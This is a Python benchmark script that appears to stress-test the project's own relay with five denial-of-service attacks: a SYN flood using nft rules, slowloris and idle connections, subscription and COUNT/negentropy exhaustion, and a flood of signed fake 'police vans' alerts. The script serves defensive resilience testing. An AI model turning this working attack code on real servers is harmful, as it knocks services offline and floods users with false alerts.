"""The attacker of ``bench/hostile.py``: one attack per process, run from a network namespace of its own.

    python bench/attacks.py ATTACK --host 10.77.1.10 --port 4848 --duration 40 --out counts.json

Attacks (issue 11), each for ``--duration`` seconds from one address:

* ``req-windows``: connections up to and past the per-address cap, each sending REQs of many time-window
  filters at the highest ``limit`` (``{"since": t, "until": t + w, "limit": 5000}`` x 10), more subscriptions than
  a connection may hold, and never reading an answer (a 4 KiB receive buffer, and the client's own buffer
  stops reading at 4 KiB). Every 2 s each connection replaces a few of its subscriptions with new windows.
* ``unplaceable``: thousands of live subscriptions whose filters the fan-out index cannot place (``{"since":
  1}``, ``{"limit": 1}``, ``{"search": ...}``, ``{"until": ...}``), 50 per connection on connections up to the
  cap; answers are read and thrown away (pings answered), a few subscriptions replaced every second.
* ``count-neg``: half the connections send ``COUNT`` with broad filters slightly faster than the REQ rate
  limit; the other half keep 8 NIP-77 ``NEG-OPEN`` sessions each with broad filters (a new ``since`` each time,
  so no two share a cached storage), closing and reopening each once it is answered.
* ``connections``: a SYN flood from a reserved source-port range whose handshakes nft never lets finish
  (half-open in the kernel's sense; skipped when ``nft`` is missing), TCP connections that never send a byte,
  slowloris HTTP upgrade requests (one header line every 2 s, never finished), and WebSocket handshakes held
  open up to the cap while more are attempted ~100 a second.
* ``junk``: validly signed "alerts" in fake channels (50 fake owners publish a definition and alerts; most
  alerts are signed by random keys that the channel never appointed; ~1 KB each), as fast as the relay accepts
  them over 16 connections (200 in flight each): a flood aimed at the carry quota. Signed before the attack.

The WebSocket client here is deliberately minimal (raw streams, zero mask, no library manners) so that an attack
costs this process little CPU and does exactly what it says: nothing is read unless the attack reads. Prints
``ATTACKING`` when the load starts (after any signing), then writes its counts as JSON to ``--out``. Every loop
is bounded by the deadline.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import collections
import contextlib
import json
import os
import random
import resource
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import orjson

sys.path.insert(0, str(Path(__file__).resolve().parent))
import dataset

CAP = 64  # the relay's default max_connections_per_ip; attacks try more than this
SYN_PORTS = (20000, 21999)  # source ports (below the ephemeral range) whose handshakes our own nft never completes
NFT_TABLE = "smzattack"


class Refused(Exception):
    """The relay answered the WebSocket upgrade with something other than 101."""


class Counts:
    def __init__(self) -> None:
        self.c: dict[str, int] = {}
        self.notes: list[str] = []

    def add(self, name: str, n: int = 1) -> None:
        self.c[name] = self.c.get(name, 0) + n

    def note(self, text: str) -> None:
        if len(self.notes) < 12 and text[:50] not in (n[:50] for n in self.notes):
            self.notes.append(text[:200])

    def failed(self, exc: BaseException) -> None:
        self.add(f"error:{type(exc).__name__}")
        self.note(f"{type(exc).__name__}: {exc}")


def frame(payload: bytes, opcode: int = 0x1) -> bytes:
    """A final client frame (masked with a zero key: the XOR is a no-op, the server cannot tell)."""
    n = len(payload)
    if n < 126:
        head = bytes([0x80 | opcode, 0x80 | n])
    elif n < 65536:
        head = bytes([0x80 | opcode, 0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head = bytes([0x80 | opcode, 0x80 | 127]) + n.to_bytes(8, "big")
    return head + b"\0\0\0\0" + payload


def upgrade_request(host: str, port: int) -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode()


class RawWs:
    """One WebSocket connection over raw asyncio streams."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer

    @classmethod
    async def open(cls, host: str, port: int, *, rcvbuf: int | None = None, timeout: float = 10.0) -> RawWs:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.setblocking(False)
        try:
            async with asyncio.timeout(timeout):
                await asyncio.get_running_loop().sock_connect(sock, (host, port))
                # A small stream limit: the stream stops reading the socket once 2 x limit bytes wait unread.
                reader, writer = await asyncio.open_connection(sock=sock, limit=4096 if rcvbuf else 2**20)
                writer.write(upgrade_request(host, port))
                head = await reader.readuntil(b"\r\n\r\n")
        except BaseException:
            sock.close()
            raise
        if not head.startswith(b"HTTP/1.1 101"):
            writer.transport.abort()
            raise Refused(head.split(b"\r\n", 1)[0].decode(errors="replace"))
        return cls(reader, writer)

    @property
    def closed(self) -> bool:
        return self.writer.transport.is_closing() or self.reader.at_eof()

    def send(self, message: Any) -> None:
        self.writer.write(frame(message if isinstance(message, bytes) else orjson.dumps(message)))

    async def drain(self, timeout: float = 5.0) -> None:
        async with asyncio.timeout(timeout):
            await self.writer.drain()

    async def read_loop(self, on_text: Callable[[bytes], None] | None = None) -> None:
        """Read frames until the connection ends: answer pings, hand text messages to ``on_text``."""
        reader = self.reader
        parts: list[bytes] = []
        while True:
            b0, b1 = await reader.readexactly(2)
            n = b1 & 0x7F
            if n == 126:
                n = int.from_bytes(await reader.readexactly(2), "big")
            elif n == 127:
                n = int.from_bytes(await reader.readexactly(8), "big")
            payload = await reader.readexactly(n) if n else b""
            opcode = b0 & 0x0F
            if opcode == 0x9:
                self.writer.write(frame(payload, 0xA))
            elif opcode == 0x8:
                return
            elif opcode in (0x0, 0x1, 0x2) and on_text is not None:
                parts.append(payload)
                if b0 & 0x80:
                    on_text(b"".join(parts))
                    parts = []

    def abort(self) -> None:
        self.writer.transport.abort()


async def until(deadline: float) -> None:
    await asyncio.sleep(max(0.0, deadline - time.monotonic()))


async def reconnecting(
    name: str, deadline: float, counts: Counts, body: Callable[[], Awaitable[None]], pause: float = 0.5
) -> None:
    """Run ``body`` again and again until the deadline (a connection the relay closes is opened again)."""
    for _ in range(1_000_000):
        left = deadline - time.monotonic()
        if left <= 0:
            return
        try:
            async with asyncio.timeout(left):
                await body()
        except TimeoutError:
            if time.monotonic() >= deadline:
                return
            counts.add(f"{name}:timeout")
        except Refused as exc:
            counts.add(f"{name}:refused")
            counts.note(f"{name} refused: {exc}")
            await asyncio.sleep(pause)
        except (OSError, asyncio.IncompleteReadError, ConnectionError) as exc:
            counts.add(f"{name}:closed")
            counts.note(f"{name}: {type(exc).__name__}: {exc}")
            await asyncio.sleep(pause)


# -- 1. REQ with many time windows, never read ----------------------------------------------------------------


def windows(rng: random.Random, now: int, count: int = 10) -> list[dict[str, int]]:
    width = rng.choice((3600, 6 * 3600, 86400))
    start = now - 32 * 86400 + rng.randrange(0, 86400)
    return [{"since": start + k * width, "until": start + (k + 1) * width, "limit": 5000} for k in range(count)]


async def req_windows(args: argparse.Namespace, deadline: float, counts: Counts) -> None:
    now = int(time.time())
    conns = args.conns or CAP + 16

    async def one(i: int) -> None:
        rng = random.Random(i)

        async def body() -> None:
            ws = await RawWs.open(args.host, args.port, rcvbuf=4096)
            counts.add("connections")
            try:
                for s in range(60):  # the relay holds 50 per connection
                    ws.send(["REQ", f"w{i}-{s}", *windows(rng, now)])
                counts.add("reqs", 60)
                for _ in range(100_000):
                    await asyncio.sleep(2)
                    if ws.closed:
                        raise ConnectionError("closed by the relay")
                    for s in rng.sample(range(60), 3):
                        ws.send(["REQ", f"w{i}-{s}", *windows(rng, now)])
                    counts.add("reqs", 3)
            finally:
                ws.abort()

        await reconnecting("req", deadline, counts, body)

    await asyncio.gather(*(one(i) for i in range(conns)))


# -- 2. subscriptions the fan-out index cannot place ----------------------------------------------------------


def unplaceable_filter(rng: random.Random, i: int) -> dict[str, Any]:
    choice = i % 4
    if choice == 0:
        return {"since": 1, "limit": 1}
    if choice == 1:
        return {"limit": 1}
    if choice == 2:
        return {"search": f"nothing-matches-{rng.randrange(10**9)}", "limit": 1}
    return {"until": 4_102_444_800, "limit": 1}


async def unplaceable(args: argparse.Namespace, deadline: float, counts: Counts) -> None:
    conns = args.conns or CAP + 16

    def on_text(message: bytes) -> None:
        counts.add("events_received" if message.startswith(b'["EVENT"') else "other_received")

    async def one(i: int) -> None:
        rng = random.Random(i)

        async def body() -> None:
            ws = await RawWs.open(args.host, args.port)
            counts.add("connections")
            reader = asyncio.create_task(ws.read_loop(on_text))
            try:
                for s in range(50):
                    ws.send(["REQ", f"u{s}", unplaceable_filter(rng, s + i)])
                counts.add("subscriptions_sent", 50)
                for _ in range(100_000):
                    done, _pending = await asyncio.wait({reader}, timeout=1.0)
                    if done:
                        reader.result()
                        raise ConnectionError("closed by the relay")
                    for s in rng.sample(range(50), 2):
                        ws.send(["REQ", f"u{s}", unplaceable_filter(rng, s + rng.randrange(4))])
                    counts.add("subscriptions_replaced", 2)
            finally:
                reader.cancel()
                ws.abort()

        await reconnecting("sub", deadline, counts, body)

    await asyncio.gather(*(one(i) for i in range(conns)))


# -- 3. COUNT and NEG-OPEN -----------------------------------------------------------------------------------


def empty_negentropy_message() -> str:
    """A client's first message for an empty set: the relay must describe its whole range."""
    from samizdat.core.negentropy import Negentropy
    from samizdat.core.negentropy_storage import VectorStorage

    storage = VectorStorage()
    storage.seal()
    return Negentropy(storage).initiate().hex()


async def count_neg(args: argparse.Namespace, deadline: float, counts: Counts) -> None:
    conns = args.conns or CAP + 16
    now = int(time.time())
    initial = empty_negentropy_message()

    def broad(rng: random.Random) -> dict[str, Any]:
        since = now - 40 * 86400 + rng.randrange(0, 30 * 86400)
        return rng.choice(({"since": since}, {"kinds": [2333], "since": since}, {"since": since, "until": now}))

    async def counter(i: int) -> None:
        rng = random.Random(i)

        def on_text(message: bytes) -> None:
            counts.add("count_answers" if message.startswith(b'["COUNT"') else "count_other")

        async def body() -> None:
            ws = await RawWs.open(args.host, args.port)
            counts.add("connections")
            reader = asyncio.create_task(ws.read_loop(on_text))
            try:
                for n in range(10**7):
                    ws.send(["COUNT", f"c{n % 50}", broad(rng), {"kinds": [2333, 1, 7]}])
                    counts.add("count_sent")
                    done, _pending = await asyncio.wait({reader}, timeout=1 / 25)  # the relay allows 20/s
                    if done:
                        reader.result()
                        raise ConnectionError("closed by the relay")
            finally:
                reader.cancel()
                ws.abort()

        await reconnecting("count", deadline, counts, body)

    async def negotiator(i: int) -> None:
        rng = random.Random(10_000 + i)

        async def body() -> None:
            ws = await RawWs.open(args.host, args.port)
            counts.add("connections")
            answered = asyncio.Event()
            waiting = [0]

            def on_text(message: bytes) -> None:
                kind = message[2:10].split(b'"', 1)[0].decode(errors="replace")
                counts.add(f"neg_answers:{kind}")
                waiting[0] -= 1
                if waiting[0] <= 0:
                    answered.set()

            reader = asyncio.create_task(ws.read_loop(on_text))
            try:
                for _round in range(10**6):
                    answered.clear()
                    waiting[0] = 8
                    for s in range(8):
                        ws.send(["NEG-OPEN", f"n{s}", broad(rng), initial])
                    counts.add("neg_open_sent", 8)
                    wait = asyncio.create_task(answered.wait())
                    done, _pending = await asyncio.wait({reader, wait}, timeout=3.0)
                    wait.cancel()
                    if reader in done:
                        reader.result()
                        raise ConnectionError("closed by the relay")
                    for s in range(8):
                        ws.send(["NEG-CLOSE", f"n{s}"])
            finally:
                reader.cancel()
                ws.abort()

        await reconnecting("neg", deadline, counts, body)

    await asyncio.gather(*(counter(i) if i % 2 == 0 else negotiator(i) for i in range(conns)))


# -- 4. connections -------------------------------------------------------------------------------------------


def nft(*rule: str) -> bool:
    done = subprocess.run(["nft", *rule], capture_output=True, text=True, check=False, timeout=20)
    return done.returncode == 0


def syn_flood_rule(host: str, port: int) -> bool:
    """Drop everything but the SYN of connections from :data:`SYN_PORTS`: the relay's kernel keeps each of them
    half open (SYN-RECV), retransmitting its SYN-ACK."""
    if shutil.which("nft") is None:
        return False
    low, high = SYN_PORTS
    return (
        nft("add", "table", "inet", NFT_TABLE)
        and nft("add", "chain", "inet", NFT_TABLE, "out", "{ type filter hook output priority 0 ; }")
        and nft(
            *f"add rule inet {NFT_TABLE} out ip daddr {host} tcp dport {port} tcp sport {low}-{high}".split(),
            *"tcp flags != syn drop".split(),
        )
    )


async def connections(args: argparse.Namespace, deadline: float, counts: Counts) -> None:
    held: list[socket.socket] = []

    async def syn_flood() -> None:
        if not syn_flood_rule(args.host, args.port):
            counts.note("no nft: SYN flood skipped")
            return
        low, high = SYN_PORTS
        for port in range(low, high + 1):
            if time.monotonic() >= deadline:
                return
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.setblocking(False)
            try:
                sock.bind(("0.0.0.0", port))
                sock.connect_ex((args.host, args.port))
            except OSError as exc:
                counts.failed(exc)
                sock.close()
                continue
            held.append(sock)
            counts.add("syn_sent")
            if port % 50 == 0:
                await asyncio.sleep(0.05)  # ~1,000 SYNs a second

    async def idle(i: int) -> None:
        async def body() -> None:
            reader, writer = await asyncio.open_connection(args.host, args.port)
            counts.add("idle_connected")
            try:
                await reader.read(1)  # never send; wait for the relay to give up on us
                raise ConnectionError("idle connection closed by the relay")
            finally:
                writer.transport.abort()

        await asyncio.sleep(i * 0.002)
        await reconnecting("idle", deadline, counts, body, pause=0.2)

    async def slowloris(i: int) -> None:
        async def body() -> None:
            reader, writer = await asyncio.open_connection(args.host, args.port)
            counts.add("slowloris_connected")
            try:
                writer.write(f"GET / HTTP/1.1\r\nHost: {args.host}\r\n".encode())
                for n in range(10**6):
                    await asyncio.sleep(2)
                    if writer.transport.is_closing() or reader.at_eof():
                        raise ConnectionError("slowloris connection closed by the relay")
                    writer.write(f"X-Slow-{n}: {'a' * 20}\r\n".encode())
                    await writer.drain()
            finally:
                writer.transport.abort()

        await asyncio.sleep(i * 0.005)
        await reconnecting("slowloris", deadline, counts, body, pause=0.2)

    async def hold_ws(i: int) -> None:
        async def body() -> None:
            ws = await RawWs.open(args.host, args.port)
            counts.add("ws_held")
            try:
                await ws.read_loop()
                raise ConnectionError("held WebSocket closed by the relay")
            finally:
                ws.abort()

        await reconnecting("ws", deadline, counts, body, pause=1.0)

    async def churn() -> None:
        for _ in range(10**7):
            if time.monotonic() >= deadline:
                return
            try:
                ws = await RawWs.open(args.host, args.port, timeout=5)
                counts.add("ws_churn_open")
                ws.abort()
            except Refused:
                counts.add("ws_churn_refused")
            except (OSError, TimeoutError, asyncio.IncompleteReadError) as exc:
                counts.failed(exc)
            await asyncio.sleep(0.01)

    idle_n, slow_n = (args.conns or 1000), max(1, (args.conns or 1000) * 3 // 10)
    try:
        await asyncio.gather(
            syn_flood(),
            *(idle(i) for i in range(idle_n)),
            *(slowloris(i) for i in range(slow_n)),
            *(hold_ws(i) for i in range(CAP + 8)),
            churn(),
            until(deadline),
        )
    finally:
        for sock in held:
            sock.close()
        if shutil.which("nft") is not None:
            nft("delete", "table", "inet", NFT_TABLE)


# -- 5. junk alerts for the carry quota ------------------------------------------------------------------------


def junk_events(count: int, now: int) -> list[bytes]:
    """``count`` signed ``EVENT`` frames: fake channels' definitions and ~1 KB alerts claiming to be in them."""
    from samizdat.core.channel import build_channel_event, parse_channel
    from samizdat.core.keys import SecretKey
    from samizdat.core.posts import build_post

    pad = " ".join(random.Random(0).choice(dataset.WORDS) for _ in range(130))[:900]
    owners = []
    frames: list[bytes] = []
    for f in range(50):
        secret = os.urandom(32)
        owner = SecretKey(secret)
        definition = build_channel_event(owner, "alerts", f"Minsk alerts {f}", created_at=now - 3600)
        channel = parse_channel(definition)
        template = build_post(owner, channel, "alert", "x", location="Market", created_at=now).to_dict()["tags"]
        owners.append((dataset.Signer(secret), template))
        frames.append(b'["EVENT",' + definition.to_json() + b"]")
    signer = None
    for i in range(count - len(frames)):
        own, template = owners[i % len(owners)]
        if i % 5 == 0:
            signer = own  # the fake owner's own alerts: valid in its fake channel
        elif i % 4 == 1 or signer is None:
            signer = dataset.Signer(os.urandom(32))  # a key the channel never appointed
        created = now - random.randrange(0, 600)
        tags = [t if t[0] != "expiration" else ["expiration", str(created + 3 * 3600)] for t in template]
        text = f"ALERT {i}: police vans at the market, avoid the area. {pad}"
        frames.append(b'["EVENT",' + signer.sign(2333, text, tags, created) + b"]")
    return frames


async def junk(args: argparse.Namespace, deadline: float, counts: Counts, frames: list[bytes]) -> None:
    conns = args.conns or 16
    per = [frames[i::conns] for i in range(conns)]

    async def one(i: int) -> None:
        queue = collections.deque(per[i])
        in_flight: dict[bytes, bytes] = {}  # event id -> frame, to send again what was refused as rate-limited

        async def body() -> None:
            ws = await RawWs.open(args.host, args.port)
            counts.add("connections")
            slots = asyncio.Semaphore(200)
            backoff = [0.0]

            def on_text(message: bytes) -> None:
                if not message.startswith(b'["OK"'):
                    counts.add("other_received")
                    return
                slots.release()
                ok = orjson.loads(message)
                sent = in_flight.pop(ok[1].encode(), None)
                counts.add("ok_true" if ok[2] else "ok_false")
                if not ok[2]:
                    reason = str(ok[3]).split(":")[0]
                    counts.add(f"ok_false:{reason}")
                    if reason == "rate-limited" and sent is not None:
                        queue.append(sent)
                        backoff[0] = 0.2

            reader = asyncio.create_task(ws.read_loop(on_text))
            try:
                queue.extend(in_flight.values())  # unanswered on a connection the relay closed
                in_flight.clear()
                while queue:
                    acquire = asyncio.create_task(slots.acquire())
                    done, _pending = await asyncio.wait({reader, acquire}, return_when=asyncio.FIRST_COMPLETED)
                    if reader in done:
                        acquire.cancel()
                        reader.result()
                        raise ConnectionError("closed by the relay")
                    if backoff[0]:
                        await asyncio.sleep(backoff[0])
                        backoff[0] = 0.0
                    if not queue:
                        break
                    message = queue.popleft()
                    in_flight[message[16:80]] = message
                    ws.send(message)
                    counts.add("sent")
                    if len(in_flight) % 50 == 0:
                        await ws.drain(10)
                counts.note(f"connection {i}: every junk event sent")
                await until(deadline)
            finally:
                reader.cancel()
                ws.abort()

        await reconnecting("junk", deadline, counts, body)

    await asyncio.gather(*(one(i) for i in range(conns)))


# -- main ------------------------------------------------------------------------------------------------------

ATTACKS = ("req-windows", "unplaceable", "count-neg", "connections", "junk")


async def run(args: argparse.Namespace) -> dict[str, Any]:
    counts = Counts()
    frames: list[bytes] = []
    t0 = time.monotonic()
    if args.attack == "junk":
        # The relay takes at most ~500 events/s from one address after a 5,000 burst: sign a little more than that.
        frames = junk_events(args.junk or int(5000 + 700 * args.duration), int(time.time()))
    signing = time.monotonic() - t0
    print(f"ATTACKING {args.attack} for {args.duration:.0f} s (signed {len(frames)} in {signing:.1f} s)", flush=True)
    deadline = time.monotonic() + args.duration
    cpu0 = resource.getrusage(resource.RUSAGE_SELF)
    attacks: dict[str, Callable[[], Awaitable[None]]] = {
        "req-windows": lambda: req_windows(args, deadline, counts),
        "unplaceable": lambda: unplaceable(args, deadline, counts),
        "count-neg": lambda: count_neg(args, deadline, counts),
        "connections": lambda: connections(args, deadline, counts),
        "junk": lambda: junk(args, deadline, counts, frames),
    }
    try:
        async with asyncio.timeout(args.duration + 5):
            await attacks[args.attack]()
    except TimeoutError:
        counts.note("stopped at the deadline")
    cpu1 = resource.getrusage(resource.RUSAGE_SELF)
    cpu = (cpu1.ru_utime + cpu1.ru_stime) - (cpu0.ru_utime + cpu0.ru_stime)
    return {
        "attack": args.attack,
        "seconds": time.monotonic() - deadline + args.duration,
        "cpu_share": cpu / args.duration,
        "signed": len(frames),
        "signing_seconds": signing,
        **counts.c,
        "notes": counts.notes,
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, default=4848)
    parser.add_argument("--duration", type=float, default=40.0)
    parser.add_argument("--conns", type=int, default=0, help="connections (0: the attack's own default)")
    parser.add_argument("--junk", type=int, default=0, help="junk events to sign (0: enough for the duration)")
    parser.add_argument("--out", type=Path, required=True)
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    result = asyncio.run(run(args))
    args.out.write_text(json.dumps(result, indent=1))
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        raise SystemExit(main())
